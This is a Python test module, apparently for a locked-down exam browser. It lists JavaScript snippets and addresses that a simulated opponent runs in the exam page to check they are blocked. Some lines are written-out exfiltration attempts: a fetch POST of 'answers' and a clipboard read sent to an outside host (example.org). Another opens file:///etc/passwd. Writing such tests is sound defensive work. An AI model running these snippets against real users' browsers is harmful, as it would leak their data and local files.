"""Tricks inside the exam's page: other addresses, source text, printing, saving, files, devices, closing."""

from __future__ import annotations

import time

from tests.faults.opponent.hall import Hall
from tests.faults.opponent.outcome import Outcome, Trick, incident

REFUSED = (
    "address_blocked", "resource_blocked", "new_window_blocked", "download_blocked", "print_blocked",
    "permission_refused", "screen_share_refused", "file_chooser_refused", "close_asked",
)  # fmt: skip


def script(*scripts: str, quiet: bool = False):
    """Run a script of the page, as somebody with its console would; `quiet` tricks may come to nothing untold."""

    def run(hall: Hall) -> Outcome:
        since, began_ns = hall.told, time.monotonic_ns()
        for one in scripts:
            hall.command(js=one)
        line = hall.page(*REFUSED, since=since, timeout_s=0.5 if quiet else 5)
        hall.command(where=True)
        where = hall.wait(lambda line: line["what"] == "where", since=since)
        if where is None or not where["in_exam"]:
            return Outcome("silent", "the exam's page is gone")
        if line is None and quiet:
            return Outcome("blocked", "the engine does not do it")
        return incident(line, began_ns)

    return run


def address(where: str):
    """Ask the window for an address, as a link or a bookmark would."""

    def go(hall: Hall) -> Outcome:
        since, began_ns = hall.told, time.monotonic_ns()
        hall.command(open=where)
        return incident(hall.page("address_blocked", since=since), began_ns)

    return go


_LINK = "Object.assign(document.body.appendChild(document.createElement('a')), {%s}).click()"
_ELSEWHERE = "https://example.org/"

_TOLD = {
    "another site in place of the exam": f"location = '{_ELSEWHERE}'",
    "another site in a frame": f"document.body.appendChild(document.createElement('iframe')).src = '{_ELSEWHERE}'",
    "text sent to another site": f"fetch('{_ELSEWHERE}', {{method: 'POST', body: 'answers'}})",
    "a web socket to another site": "new WebSocket('wss://example.org/')",
    "the page is printed": "print()",
    "a file is saved": _LINK % "href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt'",
    "a file is downloaded": _LINK % "href: '/answers.zip', download: 'answers.zip'",
    "the page asks for the screen": "navigator.mediaDevices.getDisplayMedia().catch(() => 0)",
    "the page asks for the place": "navigator.geolocation.getCurrentPosition(() => 0, () => 0)",
    "the page asks for notifications": "Notification.requestPermission()",
    "the page closes itself": "window.close()",
}
_QUIET = {
    "another site in a new window": f"window.open('{_ELSEWHERE}')",
    "a link to a new window": _LINK % f"href: '{_ELSEWHERE}', target: '_blank'",
    "a file of the computer as a page": "location = 'file:///etc/passwd'",
    "the page asks for the camera": "navigator.mediaDevices.getUserMedia({video: true}).catch(() => 0)",
    "the page goes full screen": "document.body.requestFullscreen().catch(() => 0)",
    "the page reads the clipboard": f"navigator.clipboard.readText().then(t => location = '{_ELSEWHERE}' + t)",
    "a file is asked for": "Object.assign(document.createElement('input'), {type: 'file'}).click()",
}
"""The engine itself does these for nobody: without a person's click, or, as for the camera, without one attached."""

_ADDRESSES = (
    "view-source:https://example.org/", "file:///etc/passwd", "chrome://settings", "devtools://devtools/",
    "data:text/html,hello", "javascript:alert(1)", "blob:https://example.org/x", "about:blank",
)  # fmt: skip

PAGE_TRICKS = (
    *(Trick(name, script(text)) for name, text in _TOLD.items()),
    *(Trick(name, script(text, quiet=True)) for name, text in _QUIET.items()),
    *(Trick(f"the address {where}", address(where)) for where in _ADDRESSES),
)
